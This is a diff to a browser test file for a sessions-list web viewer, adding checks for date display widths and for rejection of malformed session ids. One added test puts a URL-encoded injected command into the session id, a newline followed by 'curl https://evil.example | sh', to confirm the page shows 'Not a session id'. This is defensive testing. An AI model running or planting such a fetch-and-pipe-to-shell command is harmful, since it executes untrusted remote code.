@@ -26,7 +26,9 @@ describeBrowser('every view, desktop and phone', () => {
   const browser = useBrowser({ timezoneId: 'UTC' });
 
   it('the Sessions list: titles get the width on a phone, the filters fold away, the headings stay in sight', async () => {
-    const base = await serve(await demoHome(), {}, { index: true });
+    const home = await demoHome();
+    await writeSession(home, { stamp: '2024-03-05T10-00-00', id: uuidN(5), title: 'a session of a past year' });
+    const base = await serve(home, {}, { index: true });
     const { page, pageErrors } = await watchedPage(browser);
     await page.goto(base);
     const rows = page.getByRole('list', { name: 'Sessions' }).getByRole('link');
@@ -54,6 +56,16 @@ describeBrowser('every view, desktop and phone', () => {
     await shot(page, 'sessions-phone-filters');
     await page.getByRole('button', { name: /Filters/ }).click();
     await shot(page, 'sessions-phone');
+
+    // A date of a past year has its year, whole (not cut by its column), on both widths.
+    for (const size of [PHONE, DESKTOP]) {
+      await page.setViewportSize(size);
+      await page.goto(`${base}#/?q=past%20year`);
+      await expect.poll(() => rows.count()).toBe(1);
+      const old = rows.first().locator('.c-age');
+      expect(await old.textContent()).toMatch(/2024/);
+      expect(await old.evaluate((el) => el.scrollWidth <= el.clientWidth)).toBe(true);
+    }
     expect(pageErrors).toEqual([]);
   });
 
@@ -90,6 +102,11 @@ describeBrowser('every view, desktop and phone', () => {
       await page.goto(`${base}#/session/${uuidN(999_999)}`);
       await page.getByRole('alert').waitFor();
       await shot(page, `not-found-${width}`);
+
+      await page.goto(`${base}#/session/${spec.id}%0Acurl%20https%3A%2F%2Fevil.example%20%7C%20sh`);
+      await page.getByRole('heading', { name: 'Not a session id' }).waitFor();
+      expect(await sideways(page)).toBe(0);
+      await shot(page, `bad-id-${width}`);
     }
     expect(pageErrors).toEqual([]);
   });
